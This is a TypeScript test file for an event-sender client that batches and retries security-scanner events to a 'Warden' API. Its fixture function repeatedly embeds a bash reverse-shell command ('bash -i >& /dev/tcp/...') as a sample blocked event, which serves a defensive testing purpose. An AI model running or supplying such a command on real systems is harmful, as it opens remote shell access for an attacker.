import { afterEach, describe, expect, it, vi } from "vitest";
import { WardenClient } from "./client";
import type { EventSender, EventSenderOptions, OutgoingEvent, RejectedEvent } from "./event-sender";
import { eventIds, eventsAnswer, gate, startScriptedServer, type Script, type ScriptedServer } from "./scripted-server.test-helper";

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

/** A real-shaped event from an external scanner (say, a LlamaGuard sidecar) that caught a reverse shell. */
function shellEvent(n: number, extra: Partial<OutgoingEvent> = {}): OutgoingEvent {
  return {
    agent_id: "executor",
    direction: "internal",
    verdict: "blocked",
    risk_score: 0.97,
    text: `bash -i >& /dev/tcp/10.0.0.${n}/4444 0>&1`,
    conversation_id: "conv-7f3a",
    to_agent: "code_runner",
    scanner: "llamaguard-sidecar",
    findings: [{ category: "code_execution", rule: "code_execution.reverse_shell.bash", severity: "critical", score: 0.97, span: { start: 0, end: 38 } }],
    ...extra,
  };
}

let server: ScriptedServer | undefined;
let sender: EventSender | undefined;
afterEach(async () => {
  vi.useRealTimers();
  await sender?.close();
  sender = undefined;
  await server?.close();
  server = undefined;
});

async function setup(script: Script, options: Omit<EventSenderOptions, "send"> = {}) {
  server = await startScriptedServer(script);
  const waits: number[] = [];
  const client = new WardenClient({
    baseUrl: server.url,
    apiKey: "wdn_live_3kT9xQm2Lw8vR4pZ7nB1cY6hJ0sDfGaE",
    retry: { sleep: async (ms) => void waits.push(ms), random: () => 0 },
  });
  sender = client.eventSender({ flushIntervalMs: 60_000, ...options });
  return { sender, waits, requests: server.requests, server };
}

const storeAll: Script = (request) => ({ status: 200, body: eventsAnswer(request) });
const batchSizes = (requests: { body: unknown }[]) => requests.map((r) => (r.body as { events: unknown[] }).events.length);

describe("EventSender batching", () => {
  it("sends a batch as soon as it is full, without waiting for the timer or a flush", async () => {
    const { sender, requests } = await setup(storeAll, { batchSize: 3 });
    for (let n = 1; n <= 7; n++) sender.enqueue(shellEvent(n));
    await vi.waitFor(() => expect(requests.length).toBeGreaterThanOrEqual(2));
    expect(batchSizes(requests)).toEqual([3, 3]);
    await sender.flush();
    expect(batchSizes(requests)).toEqual([3, 3, 1]);
    expect(requests[0]).toMatchObject({ method: "POST", path: "/api/v1/events" });
    expect(sender.stats()).toMatchObject({ queued: 0, sent: 7, stored: 7, retries: 0 });
  });

  it("sends a partial batch once flushIntervalMs has passed", async () => {
    const { sender, requests } = await setup(storeAll, { batchSize: 100, flushIntervalMs: 1_000 });
    sender.enqueue(shellEvent(1));
    sender.enqueue(shellEvent(2));
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(requests).toHaveLength(0);
    await vi.waitFor(() => expect(requests).toHaveLength(1), { timeout: 5_000 });
    expect(batchSizes(requests)).toEqual([2]);
  });

  it("never puts more than 1,000 events in one request, whatever batchSize says", async () => {
    const { sender, requests } = await setup(storeAll, { batchSize: 5_000 });
    expect(sender.batchSize).toBe(1_000);
    for (let n = 0; n < 2_500; n++) sender.enqueue(shellEvent(n % 250));
    await sender.flush();
    expect(batchSizes(requests)).toEqual([1_000, 1_000, 500]);
  });

  it("keeps one batch in flight at a time", async () => {
    const release = gate();
    const { sender, requests, server } = await setup(async (request, index) => {
      if (index === 0) await release.promise;
      return { status: 200, body: eventsAnswer(request) };
    }, { batchSize: 2 });
    for (let n = 1; n <= 6; n++) sender.enqueue(shellEvent(n));
    await vi.waitFor(() => expect(requests).toHaveLength(1));
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(requests).toHaveLength(1);
    expect(sender.stats().queued).toBe(6);
    release.open();
    await sender.flush();
    expect(batchSizes(requests)).toEqual([2, 2, 2]);
    expect(server.maxConcurrent()).toBe(1);
  });
});

describe("EventSender ids and retries", () => {
  it("gives each event a UUID and keeps the caller's own id", async () => {
    const { sender, requests } = await setup(storeAll);
    sender.enqueue(shellEvent(1));
    sender.enqueue(shellEvent(2, { id: "llamaguard:run-42:msg-7" }));
    await sender.flush();
    const [generated, own] = eventIds(requests[0]);
    expect(generated).toMatch(UUID);
    expect(own).toBe("llamaguard:run-42:msg-7");
  });

  it("re-sends the same ids after a 503, waiting its Retry-After, so the server can de-duplicate", async () => {
    const { sender, requests, waits } = await setup((request, index) =>
      index < 2
        ? { status: 503, headers: { "retry-after": "3" }, body: { error: { code: "unavailable", message: "retry shortly" } } }
        : { status: 200, body: eventsAnswer(request, { 1: { status: "duplicate" } }) },
    );
    for (let n = 1; n <= 3; n++) sender.enqueue(shellEvent(n));
    await sender.flush();
    expect(requests).toHaveLength(3);
    expect(waits).toEqual([3000, 3000]);
    expect(new Set(eventIds(requests[0])).size).toBe(3);
    expect(eventIds(requests[1])).toEqual(eventIds(requests[0]));
    expect(eventIds(requests[2])).toEqual(eventIds(requests[0]));
    expect(sender.stats()).toMatchObject({ sent: 3, stored: 2, duplicates: 1, retries: 2, failed: 0 });
  });

  it("does not retry items the server rejected, and reports them with the field at fault", async () => {
    const rejected: RejectedEvent[] = [];
    const { sender, requests } = await setup(
      (request) => ({ status: 200, body: eventsAnswer(request, { 1: { status: "rejected", error: { field: "risk_score", message: "Too big: expected number to be <=1" } } }) }),
      { onRejected: (items) => rejected.push(...items) },
    );
    sender.enqueue(shellEvent(1));
    sender.enqueue(shellEvent(2, { risk_score: 7 }));
    sender.enqueue(shellEvent(3));
    await sender.flush();
    expect(requests).toHaveLength(1);
    expect(rejected).toHaveLength(1);
    expect(rejected[0]?.event).toMatchObject({ id: eventIds(requests[0])[1], risk_score: 7 });
    expect(rejected[0]?.error).toEqual({ field: "risk_score", message: "Too big: expected number to be <=1" });
    expect(sender.stats()).toMatchObject({ sent: 3, stored: 2, rejected: 1, retries: 0 });
  });

  it("reports items over the monthly quota without retrying them", async () => {
    const overQuota: string[] = [];
    const { sender, requests } = await setup(
      (request) => ({ status: 200, body: eventsAnswer(request, { 0: { status: "quota_exceeded" }, 1: { status: "quota_exceeded" } }) }),
      { onQuotaExceeded: (events) => overQuota.push(...events.map((e) => e.id)) },
    );
    for (let n = 1; n <= 3; n++) sender.enqueue(shellEvent(n));
    await sender.flush();
    expect(requests).toHaveLength(1);
    expect(overQuota).toEqual(eventIds(requests[0]).slice(0, 2));
    expect(sender.stats()).toMatchObject({ stored: 1, quotaExceeded: 2 });
  });

  it("does not retry a batch refused with 401, and reports it as failed", async () => {
    const errors: unknown[] = [];
    const { sender, requests } = await setup(() => ({ status: 401, body: { error: { code: "unauthorized", message: "Invalid API key." } } }), {
      onError: (error) => errors.push(error),
    });
    sender.enqueue(shellEvent(1));
    await sender.flush();
    expect(requests).toHaveLength(1);
    expect(errors).toEqual([expect.objectContaining({ status: 401, code: "unauthorized" })]);
    expect(sender.stats()).toMatchObject({ failed: 1, sent: 0, retries: 0 });
  });

  it("halves a batch the server finds too large, keeping the ids", async () => {
    const { sender, requests } = await setup((request) =>
      batchSizes([request])[0]! > 2
        ? { status: 413, body: { error: { code: "payload_too_large", message: "Request body too large." } } }
        : { status: 200, body: eventsAnswer(request) },
    );
    for (let n = 1; n <= 5; n++) sender.enqueue(shellEvent(n));
    await sender.flush();
    expect(batchSizes(requests)).toEqual([5, 3, 2, 1, 2]);
    const delivered = requests.filter((r) => batchSizes([r])[0]! <= 2).flatMap((r) => eventIds(r));
    expect(delivered).toEqual(eventIds(requests[0]));
    expect(sender.stats()).toMatchObject({ stored: 5, failed: 0 });
  });
});

describe("EventSender memory bound", () => {
  it("drops and counts events beyond maxQueue instead of growing, while a batch is stuck", async () => {
    const release = gate();
    const dropped: OutgoingEvent[] = [];
    const { sender, requests } = await setup(async (request) => {
      await release.promise;
      return { status: 200, body: eventsAnswer(request) };
    }, { batchSize: 2, maxQueue: 5, onDropped: (event) => dropped.push(event) });
    const accepted = Array.from({ length: 8 }, (_, n) => sender.enqueue(shellEvent(n + 1)));
    expect(accepted).toEqual([true, true, true, true, true, false, false, false]);
    expect(sender.stats()).toMatchObject({ queued: 5, dropped: 3 });
    expect(dropped.map((e) => e.text)).toEqual([6, 7, 8].map((n) => shellEvent(n).text));
    release.open();
    await sender.flush();
    expect(batchSizes(requests).reduce((a, b) => a + b, 0)).toBe(5);
    // Room again once answered.
    expect(sender.enqueue(shellEvent(9))).toBe(true);
  });
});

describe("EventSender flush and close", () => {
  it("flush() resolves only once the server has answered everything enqueued before it", async () => {
    const release = gate();
    const { sender } = await setup(async (request) => {
      await release.promise;
      return { status: 200, body: eventsAnswer(request) };
    });
    sender.enqueue(shellEvent(1));
    let flushed = false;
    const flushing = sender.flush().then(() => (flushed = true));
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(flushed).toBe(false);
    release.open();
    await flushing;
    expect(sender.stats()).toMatchObject({ queued: 0, stored: 1 });
  });

  it("flush() with nothing queued resolves at once", async () => {
    const { sender, requests } = await setup(storeAll);
    await sender.flush();
    expect(requests).toHaveLength(0);
  });

  it("flush() resolves when retries run out, counting the events as failed", async () => {
    const errors: unknown[] = [];
    const { sender, requests, waits } = await setup(() => ({ status: 500, body: { error: { code: "internal", message: "Internal error" } } }), {
      retry: { maxRetries: 2 },
      onError: (error) => errors.push(error),
    });
    sender.enqueue(shellEvent(1));
    sender.enqueue(shellEvent(2));
    await sender.flush();
    expect(requests).toHaveLength(3);
    expect(waits).toHaveLength(2);
    expect(errors).toHaveLength(1);
    expect(sender.stats()).toMatchObject({ queued: 0, failed: 2, retries: 2, sent: 0 });
  });

  it("close() sends what is queued, refuses new events and leaves no timer behind", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] });
    const { sender, requests } = await setup(storeAll, { flushIntervalMs: 1_000 });
    sender.enqueue(shellEvent(1));
    expect(vi.getTimerCount()).toBe(1);
    await sender.close();
    expect(batchSizes(requests)).toEqual([1]);
    expect(vi.getTimerCount()).toBe(0);
    expect(sender.enqueue(shellEvent(2))).toBe(false);
    expect(sender.stats()).toMatchObject({ stored: 1, dropped: 1, queued: 0 });
  });

  it("does not let its flush timer keep a Node process alive", async () => {
    const unref = vi.fn();
    const realSetTimeout = globalThis.setTimeout;
    const spy = vi.spyOn(globalThis, "setTimeout").mockImplementation(((handler: () => void, ms?: number) => {
      const handle = realSetTimeout(handler, ms);
      return Object.assign(handle, { unref: () => (unref(), handle) });
    }) as typeof setTimeout);
    try {
      const { sender } = await setup(storeAll, { flushIntervalMs: 1_000 });
      sender.enqueue(shellEvent(1));
      expect(unref).toHaveBeenCalledTimes(1);
    } finally {
      spy.mockRestore();
    }
  });

  it("keeps delivering when a callback throws", async () => {
    const consoleError = vi.spyOn(console, "error").mockImplementation(() => {});
    const { sender, requests } = await setup(
      (request) => ({ status: 200, body: eventsAnswer(request, { 0: { status: "rejected", error: { message: "bad" } } }) }),
      {
        batchSize: 1,
        onRejected: () => {
          throw new Error("dashboard hook crashed");
        },
      },
    );
    sender.enqueue(shellEvent(1));
    sender.enqueue(shellEvent(2));
    await sender.flush();
    expect(requests).toHaveLength(2);
    expect(consoleError).toHaveBeenCalled();
    consoleError.mockRestore();
  });
});
